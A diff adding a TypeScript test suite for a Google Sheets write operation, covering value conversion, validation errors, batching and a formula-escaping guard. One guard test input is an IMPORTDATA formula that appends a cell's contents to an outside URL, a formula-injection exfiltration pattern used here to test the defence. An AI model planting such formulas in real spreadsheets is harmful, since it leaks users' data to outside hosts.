@@ -1,0 +1,235 @@
+import { failureOf, items, SheetCalls } from './sheetCalls';
+
+const calls = new SheetCalls();
+
+test('rows are one PUT, stored as they stand', async () => {
+	const spreadsheetId = calls.sheet();
+	const values = [
+		['=1+1', '007', '1/2'],
+		[7, true, '-5'],
+	];
+	const written = await calls.one('write', { spreadsheetId, range: 'Sheet1!B2', values });
+	expect(written).toEqual({
+		spreadsheetId,
+		updatedRange: 'Sheet1!B2:D3',
+		updatedRows: 2,
+		updatedColumns: 3,
+		updatedCells: 6,
+	});
+	expect(calls.sent.at(-1)).toEqual({
+		method: 'values.update',
+		path: `/v4/spreadsheets/${spreadsheetId}/values/Sheet1!B2`,
+		query: { valueInputOption: 'RAW' },
+		body: { values },
+	});
+	expect(calls.stored(spreadsheetId, 'Sheet1!B2:D3')).toEqual(values);
+});
+
+test('null leaves a cell, "" clears it', async () => {
+	const spreadsheetId = calls.sheet([['a', 'b', 'c']]);
+	await calls.one('write', { spreadsheetId, range: 'Sheet1', values: [[null, '', 'z']] });
+	expect(calls.stored(spreadsheetId, 'Sheet1')).toEqual([['a', '', 'z']]);
+});
+
+test('dates become ISO 8601 in UTC', async () => {
+	const spreadsheetId = calls.sheet();
+	const date = new Date('2026-03-01T12:00:00+02:00');
+	const luxon = { isLuxonDateTime: true, valueOf: () => date.getTime() };
+	const values = [[date, luxon, 10n]];
+	await calls.one('write', { spreadsheetId, range: 'Sheet1', values });
+	const text = '2026-03-01T10:00:00.000Z';
+	expect(calls.stored(spreadsheetId, 'Sheet1')).toEqual([[text, text, '10']]);
+});
+
+test.each<[string, unknown[][], string]>([
+	['an object', [['a'], ['b', { c: 1 }]], "Row 2, column 2 of 'Values' is an object"],
+	['an array', [[['a']]], "Row 1, column 1 of 'Values' is an array"],
+	['not a number', [[NaN]], "Row 1, column 1 of 'Values' is NaN"],
+	['no date', [[new Date(NaN)]], "Row 1, column 1 of 'Values' is a date that does not exist"],
+	['a function', [[() => 1]], "Row 1, column 1 of 'Values' is a function"],
+	['a long text', [['x'.repeat(50_001)]], "Row 1, column 1 of 'Values' has 50001 characters"],
+	['nothing', [], "'Values' has no cells"],
+	['empty rows', [[], []], "'Values' has no cells"],
+])('refused before anything is sent: %s', async (_, values, message) => {
+	const failure = await failureOf(
+		calls.run('write', { spreadsheetId: calls.sheet(), range: 'Sheet1', values }),
+	);
+	expect(failure).toMatchObject({ code: 400, status: 'INVALID_ARGUMENT', message });
+	expect(failure.description).toBeTruthy();
+	expect(calls.sent).toEqual([]);
+});
+
+test.each([
+	['below the last row', 'Sheet1!A1000', /^.*exceeds grid limits/],
+	['past an area', 'Sheet1!A1:B1', /tried writing to row/],
+	['in a tab that is not there', 'Nothing!A1', /Unable to parse range/],
+])('%s: Google says no, and what to do is said', async (_, range, message) => {
+	const spreadsheetId = calls.sheet();
+	const failure = await failureOf(calls.run('write', { spreadsheetId, range, values: [['a'], ['b']] }));
+	expect(failure.code).toBe(400);
+	expect(failure.message).toMatch(message);
+	expect(failure.description).toContain('To write below the last row use Append');
+});
+
+describe('the formula guard', () => {
+	const write = async (values: unknown[][], more = {}) => {
+		const spreadsheetId = calls.sheet();
+		await calls.one('write', {
+			spreadsheetId,
+			range: 'Sheet1',
+			values,
+			valueInputOption: 'USER_ENTERED',
+			...more,
+		});
+		return (calls.sent.at(-1)?.body as { values: unknown[][] }).values[0];
+	};
+
+	test.each([
+		'=1+1',
+		'=IMPORTDATA("https://example.com?"&A1)',
+		'+A1',
+		'-A1',
+		'-1+2',
+		'@SUM(A1)',
+		'\t=1',
+		'\r=1',
+		'-',
+		'+',
+	])('%j gets an apostrophe', async (text) => {
+		expect(await write([[text]])).toEqual([`'${text}`]);
+	});
+
+	test.each(['-5', '+1.5', '-1,234.50', '-.5', '+1e5', '-12%', '5', 'a=b', ' =1', '', "'=1"])(
+		'%j stays as it is',
+		async (text) => {
+			expect(await write([[text]])).toEqual([text]);
+		},
+	);
+
+	test('numbers and booleans stay what they are', async () => {
+		expect(await write([[-5, true, null]])).toEqual([-5, true, null]);
+	});
+
+	test('it can be turned off', async () => {
+		expect(await write([['=1+1']], { escapeFormulas: false })).toEqual(['=1+1']);
+	});
+
+	test('RAW needs none', async () => {
+		expect(await write([['=1+1']], { valueInputOption: 'RAW' })).toEqual(['=1+1']);
+	});
+});
+
+describe('input items', () => {
+	const given = (spreadsheetId: string, more = {}) => ({
+		spreadsheetId,
+		range: 'Sheet1!B2',
+		valuesSource: 'items',
+		...more,
+	});
+
+	test('are one block with a header, columns in order of first appearance', async () => {
+		const spreadsheetId = calls.sheet();
+		const params = given(spreadsheetId);
+		const all = items({ a: 1, b: 'x' }, { b: 'y', c: true }, { a: null });
+		const written = await calls.together(
+			'write',
+			all.map((item) => ({ params, item })),
+		);
+		expect(calls.sent).toMatchObject([
+			{
+				method: 'values.update',
+				body: {
+					values: [
+						['a', 'b', 'c'],
+						[1, 'x', null],
+						[null, 'y', true],
+						[null, null, null],
+					],
+				},
+			},
+		]);
+		expect(written).toEqual([
+			{ spreadsheetId, updatedRange: 'Sheet1!B3:D3', updatedRows: 1, updatedColumns: 2, updatedCells: 2 },
+			{ spreadsheetId, updatedRange: 'Sheet1!B4:D4', updatedRows: 1, updatedColumns: 2, updatedCells: 2 },
+			{ spreadsheetId, updatedRange: 'Sheet1!B5:D5', updatedRows: 1, updatedColumns: 0, updatedCells: 0 },
+		]);
+	});
+
+	test('without a header, at a bare tab', async () => {
+		const spreadsheetId = calls.sheet([], 'My Tab');
+		const params = given(spreadsheetId, { range: 'My Tab', includeHeaderRow: false });
+		const all = items({ a: 1 }, { a: 2 });
+		const written = await calls.together(
+			'write',
+			all.map((item) => ({ params, item })),
+		);
+		expect(written).toMatchObject([{ updatedRange: "'My Tab'!A1" }, { updatedRange: "'My Tab'!A2" }]);
+		expect(calls.stored(spreadsheetId, "'My Tab'")).toEqual([[1], [2]]);
+	});
+
+	test('a single one', async () => {
+		const spreadsheetId = calls.sheet();
+		const [item] = items({ a: 1 });
+		expect(await calls.one('write', given(spreadsheetId), item)).toMatchObject({ updatedRange: 'Sheet1!B3' });
+	});
+
+	test('headers are text also where Google takes text as typed', async () => {
+		const spreadsheetId = calls.sheet();
+		const params = given(spreadsheetId, { valueInputOption: 'USER_ENTERED' });
+		await calls.together(
+			'write',
+			items({ '1/2': '=1', '=x': '5' }).map((item) => ({ params, item })),
+		);
+		expect(calls.stored(spreadsheetId, 'Sheet1!B2:C3')).toEqual([
+			['1/2', '=x'],
+			['=1', 5],
+		]);
+	});
+
+	test('more than Google takes well goes out in several requests, each in its place', async () => {
+		const spreadsheetId = calls.sheet([], 'Sheet1', { rowCount: 2000 });
+		const all = items(...Array.from({ length: 100 }, (_, at) => ({ at, text: 'x'.repeat(45_000) })));
+		const written = await calls.together(
+			'write',
+			all.map((item) => ({ params: given(spreadsheetId), item })),
+		);
+		expect(calls.methods).toEqual(Array.from({ length: 3 }, () => 'values.update'));
+		expect(written.at(-1)).toMatchObject({ updatedRange: 'Sheet1!B102:C102' });
+		const column = calls.stored(spreadsheetId, 'Sheet1!B2:B2000').flat();
+		expect(column).toEqual(['at', ...Array.from({ length: 100 }, (_, at) => at)]);
+	});
+
+	test('a field that no cell can hold is named before anything is sent', async () => {
+		const params = given(calls.sheet());
+		const all = items({ a: 1 }, { a: { b: 1 } }).map((item) => ({ params, item }));
+		const failure = await failureOf(calls.together('write', all));
+		expect(failure.message).toBe("Field 'a' of the input item is an object");
+		expect(
+			(
+				await failureOf(
+					calls.together(
+						'write',
+						items({}).map((item) => ({ params, item })),
+					),
+				)
+			).message,
+		).toBe('The input item has no fields');
+		expect(calls.sent).toEqual([]);
+	});
+
+	test('only items with the same target go out together, and never rows from JSON', () => {
+		const key = (more: object) => calls.key('write', { ...given('id'), ...more });
+		expect(key({ values: undefined })).toBe(key({ range: ' Sheet1!B2' }));
+		expect(key({})).not.toBe(key({ range: 'Sheet1!B3' }));
+		expect(key({})).not.toBe(key({ valueInputOption: 'USER_ENTERED' }));
+		expect(calls.key('write', { spreadsheetId: 'id', range: 'A1', values: [[1]] })).toBeUndefined();
+	});
+});
+
+test('a lost answer is asked for again: writing twice changes nothing', async () => {
+	calls.google.fault({ match: 'sheets.spreadsheets.values.update', connection: 'resetAfter' });
+	const spreadsheetId = calls.sheet();
+	const written = await calls.one('write', { spreadsheetId, range: 'Sheet1', values: [['a']] });
+	expect(written).toMatchObject({ updatedRange: 'Sheet1!A1' });
+	expect(calls.methods).toEqual(['values.update', 'values.update']);
+});
